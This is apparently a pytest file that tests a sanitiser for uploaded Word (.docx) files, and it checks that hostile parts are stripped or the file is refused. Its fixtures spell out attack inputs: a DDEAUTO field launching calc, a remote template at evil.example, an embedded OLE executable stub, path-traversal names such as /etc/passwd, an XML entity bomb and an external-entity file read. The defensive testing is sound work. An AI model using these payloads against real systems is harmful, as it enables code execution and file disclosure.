"""Word papers: unpacked within limits, packed anew; words and web links stay, what fetches, acts or tells goes."""

import io
import re
import struct
import zipfile

import pytest
from PIL import Image

from portal.foundation.media.paper_reasons import PaperReason
from portal.foundation.media.papers import CleanPaper
from tests.factories import paper_files as made
from tests.factories.paper_files import MARKER, clean, docx_bytes, refused, relation, relations, words_xml


def part(paper: CleanPaper, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(paper.data)) as packed:
        return packed.read(name).decode()


def parts(paper: CleanPaper) -> set[str]:
    with zipfile.ZipFile(io.BytesIO(paper.data)) as packed:
        return set(packed.namelist())


def test_the_words_of_a_word_paper_stay_and_its_author_goes():
    paper = clean(docx_bytes("He loved the number 9 bus."))
    assert paper.kind == "docx"
    assert "He loved the number 9 bus." in part(paper, "word/document.xml")
    assert parts(paper) == {"[Content_Types].xml", "_rels/.rels", "word/document.xml"}
    assert MARKER.encode() not in paper.data
    assert "docProps" not in part(paper, "_rels/.rels")


def full_docx() -> bytes:
    body = (
        "<w:body>"
        '<w:p><w:hyperlink r:id="r1"><w:r><w:t>the bus</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:hyperlink r:id="r2"><w:r><w:t>a file</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="r3"/></w:object>'
        '</w:r></w:p><w:altChunk r:id="r4"/>'
        '<w:p><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="r5" r:link="r6"/></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAU</w:instrText></w:r>'
        '<w:r><w:instrText>TO c:\\\\calc</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>shown last</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://track.example/x&quot;"/></w:p>'
        "</w:body>"
    )
    return docx_bytes(
        more={
            "word/document.xml": words_xml(body),
            "word/_rels/document.xml.rels": relations(
                relation(1, "hyperlink", "https://example.org/bus", external=True),
                relation(2, "hyperlink", "file://server/share", external=True),
                relation(3, "oleObject", "embeddings/thing.bin"),
                relation(4, "aFChunk", "afchunk.mht"),
                relation(5, "image", "media/a.jpeg"),
                relation(6, "image", "https://track.example/y.png", external=True),
                relation(7, "settings", "settings.xml"),
            ),
            "word/settings.xml": words_xml(
                '<w:attachedTemplate r:id="r1"/><w:zoom w:percent="90"/>'
                '<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge>',
                "settings",
            ),
            "word/_rels/settings.xml.rels": relations(
                relation(1, "attachedTemplate", "http://evil.example/t.dotm", external=True)
            ),
            "word/embeddings/thing.bin": b"MZ" + bytes(50),
            "word/afchunk.mht": b"<html>",
            "word/media/a.jpeg": made.jpeg_with_notes(),
            "word/media/b.png": made.png_with_notes(),
            "word/people.xml": words_xml("", "people"),
            "customXml/item1.xml": f"<a>{MARKER}</a>",
        }
    )


def test_a_word_paper_points_to_nothing_outside_but_web_pages():
    paper = clean(full_docx())
    links = part(paper, "word/_rels/document.xml.rels")
    assert set(re.findall(r'Id="(r\d)"', links)) == {"r1", "r5", "r7"}
    assert "https://example.org/bus" in links
    assert "Template" not in part(paper, "word/settings.xml") + part(paper, "word/_rels/settings.xml.rels")
    assert "SELECT" not in part(paper, "word/settings.xml")
    assert "zoom" in part(paper, "word/settings.xml")
    assert not parts(paper) & {
        "word/embeddings/thing.bin",
        "word/afchunk.mht",
        "word/people.xml",
        "customXml/item1.xml",
    }


def test_a_word_paper_keeps_its_words_and_no_pointer_without_an_end():
    words = part(clean(full_docx()), "word/document.xml")
    assert {"the bus", "a file", "shown last"} <= set(re.findall(r"<w:t>([^<]+)</w:t>", words))
    assert set(re.findall(r'r:\w+="(r\d)"', words)) == {"r1", "r5"}
    assert "PAGE" in words
    for code in ("DDE", "TO c:", "INCLUDEPICTURE", "OLEObject", "altChunk"):
        assert code not in words


def test_pictures_in_a_word_paper_lose_their_notes():
    with zipfile.ZipFile(io.BytesIO(clean(full_docx()).data)) as packed:
        pictures = [packed.read(name) for name in ("word/media/a.jpeg", "word/media/b.png")]
    for before, after in zip([made.jpeg_with_notes(), made.png_with_notes()], pictures, strict=True):
        assert MARKER.encode() in before
        assert MARKER.encode() not in after
        assert Image.open(io.BytesIO(after)).tobytes() == Image.open(io.BytesIO(before)).tobytes()


MACRO_TYPES = (
    f'<Types xmlns="{made.PACKAGE}/content-types"><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)


@pytest.mark.parametrize(
    "more",
    [{"word/vbaProject.bin": b"x"}, {"[Content_Types].xml": MACRO_TYPES}, {"word/VBADATA.xml": "<a/>"}],
    ids=["a project", "by its type", "its data"],
)
def test_macros_are_refused_whole(more):
    assert refused(docx_bytes(more=more)) is PaperReason.MACROS


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/passwd", "word\\..\\x.xml", "word/../../x.xml", "c:x.xml"])
def test_a_path_that_leads_out_is_refused(name):
    assert refused(docx_bytes(more={name: "<a/>"})) is PaperReason.DAMAGED


def test_two_parts_of_one_name_are_refused():
    assert refused(docx_bytes(more={"Word/Document.xml": "<a/>"})) is PaperReason.DAMAGED


def test_a_paper_that_unpacks_to_far_more_is_refused():
    assert refused(docx_bytes(more={"word/media/a.bmp": bytes(20_000_000)})) is PaperReason.TOO_MUCH_INSIDE
    many = {f"word/x{n}.xml": "<a/>" for n in range(2_000)}
    assert refused(docx_bytes(more=many)) is PaperReason.TOO_MUCH_INSIDE


def test_a_part_that_lies_about_its_size_is_not_unpacked_further():
    honest = docx_bytes(more={"word/styles.xml": "<a>" + " " * 500_000 + "</a>"})
    at = honest.rindex(b"word/styles.xml") - 46
    assert honest[at : at + 4] == b"PK\x01\x02"
    lying = honest[: at + 24] + struct.pack("<I", 10) + honest[at + 28 :]
    assert refused(lying) is PaperReason.DAMAGED


BOMB = '<!DOCTYPE a [<!ENTITY b "' + "x" * 1000 + '">]>' + words_xml("&b;" * 50).partition("?>")[2]


@pytest.mark.parametrize(
    "words", [BOMB, "<w:document", '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'], ids=["entities", "cut", "a file"]
)
def test_words_with_a_document_type_or_broken_ones_are_refused(words):
    assert refused(docx_bytes(more={"word/document.xml": words})) is PaperReason.DAMAGED


def test_a_cut_off_word_paper_is_damaged():
    assert refused(docx_bytes()[:-60]) is PaperReason.DAMAGED
